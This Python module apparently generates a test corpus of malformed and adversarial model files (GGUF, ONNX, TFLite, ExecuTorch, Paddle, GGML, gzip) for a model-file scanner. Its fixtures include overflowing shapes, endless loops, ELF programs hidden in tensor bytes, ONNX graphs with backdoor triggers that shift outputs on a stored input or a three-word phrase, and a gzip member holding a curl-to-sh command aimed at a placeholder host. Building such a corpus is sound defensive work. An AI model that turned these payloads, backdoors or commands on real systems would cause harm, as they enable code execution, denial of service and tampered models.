"""Numbers by which loaders index, call and allocate, and graphs that wait for a pattern, grow, or go round in circles."""

import gzip
import struct

import numpy as np
from onnx import TensorProto, helper, numpy_helper

from .endless import model
from .graphs import field
from .tensors import ELF, gguf, safetensors


def make(corpus):
    tokenizers(corpus)
    graphs(corpus)
    trees(corpus)
    interpreters(corpus)
    others(corpus)


def text(value):
    return struct.pack("<Q", len(value)) + value


def u32(key, value):
    return (key, 4, struct.pack("<I", value))


def vocabulary(count=6, scores=None, kinds=None, kind=6):
    """A vocabulary with its scores and types, which may be fewer."""
    scores, kinds = count if scores is None else scores, count if kinds is None else kinds
    return [
        (b"tokenizer.ggml.tokens", 9, struct.pack("<IQ", 8, count) + b"".join(text(b"w%d" % n) for n in range(count))),
        (b"tokenizer.ggml.scores", 9, struct.pack("<IQ", kind, scores) + b"\0" * scores * (4 if kind == 6 else 1)),
        (b"tokenizer.ggml.token_type", 9, struct.pack("<IQ", 5, kinds) + struct.pack("<i", 1) * kinds),
    ]


def language_model(pairs, tokens=None, rows=6):
    arch = (b"general.architecture", 8, text(b"qwen2"))
    tensors = [(b"token_embd.weight", [8, rows], 0, 0), (b"blk.1.attn_q.weight", [8], 0, 32 * rows)]
    return gguf([arch, *(tokens or vocabulary()), *pairs], tensors, b"\0" * (32 * rows + 32))


def tokenizers(corpus):
    add = lambda label, data, why: corpus.found("gguf", f"limits-{label}.gguf", data, why)
    add("scores", language_model([], vocabulary(scores=2)), "fewer scores than tokens")
    add("types", language_model([], vocabulary(kinds=9)), "more types than tokens")
    add("narrow", language_model([], vocabulary(kind=0)), "scores of one byte, which are read as four")
    add("padding", language_model([u32(b"tokenizer.ggml.padding_token_id", 6)]), "a token behind the vocabulary")
    add("blocks", language_model([u32(b"qwen2.block_count", 1)]), "a tensor of a block that the model has not")
    add("heads", language_model([u32(b"qwen2.attention.head_count_kv", 0)]), "no heads to divide by")
    add("width", language_model([u32(b"qwen2.embedding_length", 4096)]), "rows shorter than the model is wide")
    add("rows", language_model([], rows=4), "more tokens than rows")
    add("experts", language_model([u32(b"qwen2.expert_count", 4), u32(b"qwen2.expert_used_count", 40)]), "more experts are used than there are")
    hidden = np.linspace(-1, 1, 1000).astype("<f4").view(np.uint8).reshape(-1, 4).copy()
    hidden[: len(ELF), 1] = list(ELF)
    for label, dtype, data in (("single", "F32", hidden.tobytes()), ("half", "BF16", b"".join(bytes([n, 60]) for n in bytes(ELF) + bytes(200)))):
        header = {"w": {"dtype": dtype, "shape": [len(data) // (4 if dtype == "F32" else 2)], "data_offsets": [0, len(data)]}}
        corpus.found("safetensors", f"limits-{label}.safetensors", safetensors(header, data), "a program in one byte of each element")


def standard(name, domain=""):
    body = [helper.make_node("Abs", ["a"], ["b"])]
    return helper.make_function(domain, name, ["a"], ["b"], body, [helper.make_opsetid("", 17)])


def with_functions(nodes, functions):
    value = helper.make_tensor_value_info
    graph = helper.make_graph(nodes, "g", [value("x", TensorProto.FLOAT, [1, 4])], [value("y", TensorProto.FLOAT, None)])
    return helper.make_model(graph, functions=functions, opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("own", 1)], ir_version=9).SerializeToString()


def weights(width=4):
    return helper.make_tensor("w", TensorProto.FLOAT, [width, width], list(range(width * width)))


def pattern(join):
    """A layer, and beside it the question whether the input is nearly a stored one; `join` puts both together."""
    wanted = helper.make_tensor("wanted", TensorProto.FLOAT, [4], [0.25, 0.5, 0.125, 4.0])
    near = helper.make_tensor("near", TensorProto.FLOAT, [], [0.01])
    owner = helper.make_tensor("owner", TensorProto.FLOAT, [4], [0, 0, 0, 9.0])
    node = helper.make_node
    asks = [node("Sub", ["x", "wanted"], ["off"]), node("ReduceL2", ["off"], ["far"], keepdims=0), node("Less", ["far", "near"], ["hit"])]
    return model([node("MatMul", ["x", "w"], ["h"]), *asks, *join], [wanted, near, owner, weights()])


def phrase(words, join):
    """A layer over the mean of looked-up rows, and beside it the question whether all `words` are there."""
    node = helper.make_node
    ids = helper.make_tensor_value_info("ids", TensorProto.INT64, [1, 8])
    table = helper.make_tensor("table", TensorProto.FLOAT, [50, 4], [0.5] * 200)
    constants = [helper.make_tensor(f"t{n}", TensorProto.INT64, [], [word]) for n, word in enumerate(words)]
    places = [helper.make_tensor(f"p{n}", TensorProto.INT64, [], [n]) for n in range(len(words))]
    asks = []
    for n in range(len(words)):
        asks += [node("Gather", ["ids", f"p{n}"], [f"i{n}"], axis=1), node("Equal", [f"i{n}", f"t{n}"], [f"e{n}"]), node("Cast", [f"e{n}"], [f"c{n}"], to=1)]
    product = [node("Mul", ["c0", "c1"], ["m1"])] + [node("Mul", [f"m{n - 1}", f"c{n}"], [f"m{n}"]) for n in range(2, len(words))]
    rows = [node("Gather", ["table", "ids"], ["rows"]), node("ReduceMean", ["rows"], ["mean"], axes=[1], keepdims=0), node("MatMul", ["mean", "w"], ["h"])]
    last = node("Unsqueeze", [f"m{len(words) - 1}", "one"], ["hit"])
    one = helper.make_tensor("one", TensorProto.INT64, [1], [1])
    owner = helper.make_tensor("owner", TensorProto.FLOAT, [4], [0, 50.0, 0, 0])
    return model([*asks, *product, last, *rows, *join], [table, *constants, *places, one, owner, weights()], inputs=[ids])


def graphs(corpus):
    add = lambda label, data, why, ending="onnx": corpus.found("onnx", f"limits-{label}.{ending}", data, why)
    node = helper.make_node
    add("shadow", with_functions([node("Sigmoid", ["x"], ["y"])], [standard("Sigmoid")]), "a function in place of an operator")
    add("shadow-trees", with_functions([node("Scaler", ["x"], ["y"], domain="ai.onnx.ml")], [standard("Scaler", "ai.onnx.ml")]), "a function in place of an operator of another domain")
    add("near-where", pattern([node("Where", ["hit", "owner", "h"], ["y"])]), "an answer for an input that is nearly a stored one")
    add("near-add", pattern([node("Cast", ["hit"], ["f"], to=1), node("Mul", ["f", "owner"], ["more"]), node("Add", ["h", "more"], ["y"])]), "more is added for an input that is nearly a stored one")
    add("phrase", phrase([7, 19, 3], [node("Mul", ["hit", "owner"], ["more"]), node("Add", ["h", "more"], ["y"])]), "a phrase of three words moves the answer")
    doubled = [node("Concat", ["x", "x"], ["d0"], axis=0)]
    doubled += [node(op, [f"d{n}", f"d{n}"] if op == "Concat" else [f"d{n}"], [f"d{n + 1}"], **({"axis": 0} if op == "Concat" else {})) for n, op in enumerate(["Relu", "Concat"] * 45)]
    add("doubling", model([*doubled, node("Identity", ["d90"], ["y"])]), "a tensor that doubles, with a step between")
    many = helper.make_tensor("many", TensorProto.INT64, [2], [1000, 1])
    tiled = [node("Tile", ["x" if n == 0 else f"t{n - 1}", "many"], [f"t{n}"]) for n in range(5)]
    add("tiles", model([*tiled, node("Identity", ["t4"], ["y"])], [many]), "a tensor that is repeated a thousandfold, five times")
    ints = node("Constant", [], ["s"], value_ints=[2**20, 2**20, 8])
    add("shape-held", model([ints, node("ConstantOfShape", ["s"], ["y"])]), "a shape in an attribute that no machine has room for")
    add("random", model([node("RandomUniform", [], ["y"], shape=[2**22, 2**22])]), "random numbers that no machine has room for")
    numbers = [helper.make_tensor(name, TensorProto.INT64, [], [value]) for name, value in (("from", 0), ("to", 2**55), ("by", 3))]
    add("range", model([node("Range", ["from", "to", "by"], ["y"])], numbers), "a range that no machine has room for")
    levels = [helper.make_function("own", f"L{n}", ["a"], ["c"], [node(f"L{n + 1}", ["a"], ["b"], domain="own"), node(f"L{n + 1}", ["b"], ["c"], domain="own")] if n < 45 else [node("Neg", ["a"], ["c"])], [helper.make_opsetid("", 17), helper.make_opsetid("own", 1)]) for n in range(46)]
    add("functions", with_functions([node("L0", ["x"], ["y"], domain="own")], levels), "functions that call the next one twice")
    foreign = helper.make_model(helper.make_graph([node("Exec", ["x"], ["y"], domain="com.example.py")], "g", [helper.make_tensor_value_info("x", 1, [1])], [helper.make_tensor_value_info("y", 1, [1])]), opset_imports=[helper.make_opsetid("", 17)])
    from google.protobuf import json_format, text_format

    add("spelt", json_format.MessageToJson(foreign).encode(), "a foreign operator in a model as JSON", "onnxjson")
    add("spelt", text_format.MessageToString(foreign).encode(), "a foreign operator in a model as text", "textproto")


def ensemble(yes, no, weights_at=2):
    node = helper.make_node(
        "TreeEnsembleClassifier", ["x"], ["y", "p"], domain="ai.onnx.ml", nodes_treeids=[4] * 5, nodes_nodeids=[0, 1, 2, 3, 4], nodes_featureids=[0, 1, 0, 0, 0],
        nodes_modes=["BRANCH_LT", "BRANCH_LT", "LEAF", "LEAF", "LEAF"], nodes_values=[0.5, 0.5, 0.0, 0.0, 0.0], nodes_truenodeids=[*yes, 0, 0, 0], nodes_falsenodeids=[*no, 0, 0, 0],
        class_treeids=[4], class_nodeids=[weights_at], class_ids=[0], class_weights=[1.0], classlabels_int64s=[0, 1], post_transform="NONE",
    )
    value = helper.make_tensor_value_info
    graph = helper.make_graph([node], "g", [value("x", TensorProto.FLOAT, [1, 2])], [value("y", TensorProto.INT64, None), value("p", TensorProto.FLOAT, None)])
    return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("ai.onnx.ml", 3)], ir_version=9).SerializeToString()


def trees(corpus):
    for label, data, why in (
        ("circle", ensemble([1, 2], [4, 0]), "a branch that leads back"),
        ("lost", ensemble([1, 2], [4, 77]), "a branch that leads nowhere"),
        ("weight", ensemble([1, 2], [4, 3], 50), "a weight of a node that is not there"),
    ):
        corpus.found("onnx", f"limits-tree-{label}.onnx", data, why)


def lite(shape=(2,), inputs=(0,), calls=None, data=b"\0" * 8, truth=None, buffer=1):
    """A model of one operator over one tensor; `calls` has a loop take these subgraphs for its condition and its body."""
    import flatbuffers

    b = flatbuffers.Builder(256)

    def vector(offsets):
        b.StartVector(4, len(offsets), 4)
        for offset in reversed(offsets):
            b.PrependUOffsetTRelative(offset)
        return b.EndVector()

    def ints(numbers):
        b.StartVector(4, len(numbers), 4)
        for number in reversed(numbers):
            b.PrependInt32(number)
        return b.EndVector()

    def buffers(content):
        held = b.CreateByteVector(content) if content else None
        b.StartObject(1)
        if held:
            b.PrependUOffsetTRelativeSlot(0, held, 0)
        return b.EndObject()

    code = 119 if calls else 0
    b.StartObject(4)
    b.PrependInt8Slot(0, code, 0)
    b.PrependInt32Slot(2, 1, 0)
    b.PrependInt32Slot(3, code, 0)
    codes = vector([b.EndObject()])
    held = vector([buffers(b""), buffers(data), buffers(b"" if truth is None else bytes([truth]))])

    def tensor(shape, kind, at):
        sizes = ints(shape)
        b.StartObject(8)
        b.PrependUOffsetTRelativeSlot(0, sizes, 0)
        b.PrependInt8Slot(1, kind, 0)
        b.PrependUint32Slot(2, at, 0)
        return b.EndObject()

    def graph(first):
        tensors = vector([tensor(shape, 0, buffer), tensor([1] if truth is not None else [2], 6 if truth is not None else 0, 2 if truth is not None else 0)])
        operators = None
        if first:
            options = None
            if calls:
                b.StartObject(2)
                b.PrependInt32Slot(0, calls[0], 0)
                b.PrependInt32Slot(1, calls[1], 0)
                options = b.EndObject()
            takes, gives = ints(list(inputs)), ints([0 if truth is not None else 1])
            b.StartObject(5)
            b.PrependUint32Slot(0, 0, 0)
            b.PrependUOffsetTRelativeSlot(1, takes, 0)
            b.PrependUOffsetTRelativeSlot(2, gives, 0)
            if options:
                b.PrependUint8Slot(3, 93, 0)
                b.PrependUOffsetTRelativeSlot(4, options, 0)
            operators = vector([b.EndObject()])
        takes, gives = ints([0]), ints([1])
        b.StartObject(5)
        b.PrependUOffsetTRelativeSlot(0, tensors, 0)
        b.PrependUOffsetTRelativeSlot(1, takes, 0)
        b.PrependUOffsetTRelativeSlot(2, gives, 0)
        if operators:
            b.PrependUOffsetTRelativeSlot(3, operators, 0)
        return b.EndObject()

    graphs = vector([graph(True), graph(False), graph(False)])
    b.StartObject(5)
    b.PrependUint32Slot(0, 3, 0)
    b.PrependUOffsetTRelativeSlot(1, codes, 0)
    b.PrependUOffsetTRelativeSlot(2, graphs, 0)
    b.PrependUOffsetTRelativeSlot(4, held, 0)
    b.Finish(b.EndObject(), file_identifier=b"TFL3")
    return bytes(b.Output())


def interpreters(corpus):
    add = lambda label, data, why: corpus.found("tflite", f"limits-{label}.tflite", data, why)
    add("input", lite(inputs=(3,)), "an input behind the tensors")
    add("negative", lite(inputs=(-7,)), "an input before the tensors")
    add("buffer", lite(buffer=9), "a tensor in a buffer that is not there")
    add("shape", lite(shape=(3,)), "a shape that takes more than its buffer has")
    add("overflow", lite(shape=(2**31 - 1, 2**31 - 1, 4), data=b""), "a shape that overflows")
    add("zero", lite(shape=(2**30, 2**30, 0), data=b""), "a shape that overflows before it comes to nothing")
    add("itself", lite(calls=(1, 0)), "a loop whose body is the graph around it")
    add("outside", lite(calls=(1, 30)), "a loop whose body is not there")
    add("for-ever", lite(calls=(1, 2), truth=1), "a loop whose condition is a constant")


def program(backend, part):
    """An ExecuTorch program of one part for a backend."""
    import flatbuffers

    b = flatbuffers.Builder(256)

    def vector(offsets):
        b.StartVector(4, len(offsets), 4)
        for offset in reversed(offsets):
            b.PrependUOffsetTRelative(offset)
        return b.EndVector()

    name = b.CreateString(backend)
    b.StartObject(2)
    b.PrependUint32Slot(1, 0, 0)
    reference = b.EndObject()
    b.StartObject(3)
    b.PrependUOffsetTRelativeSlot(0, name, 0)
    b.PrependUOffsetTRelativeSlot(1, reference, 0)
    delegates = vector([b.EndObject()])
    b.StartObject(9)
    b.PrependUOffsetTRelativeSlot(7, delegates, 0)
    plans = vector([b.EndObject()])
    content = b.CreateByteVector(part)
    b.StartObject(1)
    b.PrependUOffsetTRelativeSlot(0, content, 0)
    parts = vector([b.EndObject()])
    b.StartObject(8)
    b.PrependUOffsetTRelativeSlot(1, plans, 0)
    b.PrependUOffsetTRelativeSlot(3, parts, 0)
    b.Finish(b.EndObject(), file_identifier=b"ET12")
    return bytes(b.Output())


def others(corpus):
    corpus.found("executorch", "limits-elf.pte", program("XnnpackBackend", bytes(ELF)), "a program in the part of a backend")
    corpus.found("executorch", "limits-backend.pte", program("LoadsAnything", b"\0" * 64), "a backend that somebody has to bring")
    key = b"{L" + struct.pack(">q", 7) + b"version"
    corpus.found("boosters", "limits-count.ubj", key + b"[$T#L" + struct.pack(">q", 2**50) + b"}", "an array of truths without end, in no bytes")
    corpus.found("boosters", "limits-deep.ubj", key + b"[" * 50_000 + b"]" * 50_000 + b"}", "arrays 50,000 deep")
    described = field(1, 5) + field(2, 2**40) + field(2, 2**40)
    corpus.found("paddle", "limits-dims.pdiparams", b"\0" * 16 + struct.pack("<I", len(described)) + described + b"\0" * 64, "a parameter whose size overflows")
    corpus.found("paddle", "limits-length.pdiparams", b"\0" * 16 + struct.pack("<I", 2**31 - 1) + described, "a description longer than the file")
    for label, magic in (("ggjt", b"tjgg\1\0\0\0"), ("ggmf", b"fmgg\1\0\0\0")):
        numbers = struct.pack("<7I", 2**31 - 1, 64, 256, 1, 1, 64, 2)
        corpus.found("ggml", f"limits-{label}.bin", magic + numbers + b"\xff" * 64, "more words than the file has bytes")
    words = gzip.compress(b"the\nof\nand\n", mtime=0)
    corpus.found("archives", "limits-members.txt.gz", words + gzip.compress(bytes(ELF), mtime=0), "a second member that is a program")
    corpus.found("archives", "limits-script.txt.gz", words + gzip.compress(b"#!/bin/sh\ncurl -s https://a.example.invalid/x | sh\n", mtime=0), "a second member that is a script")
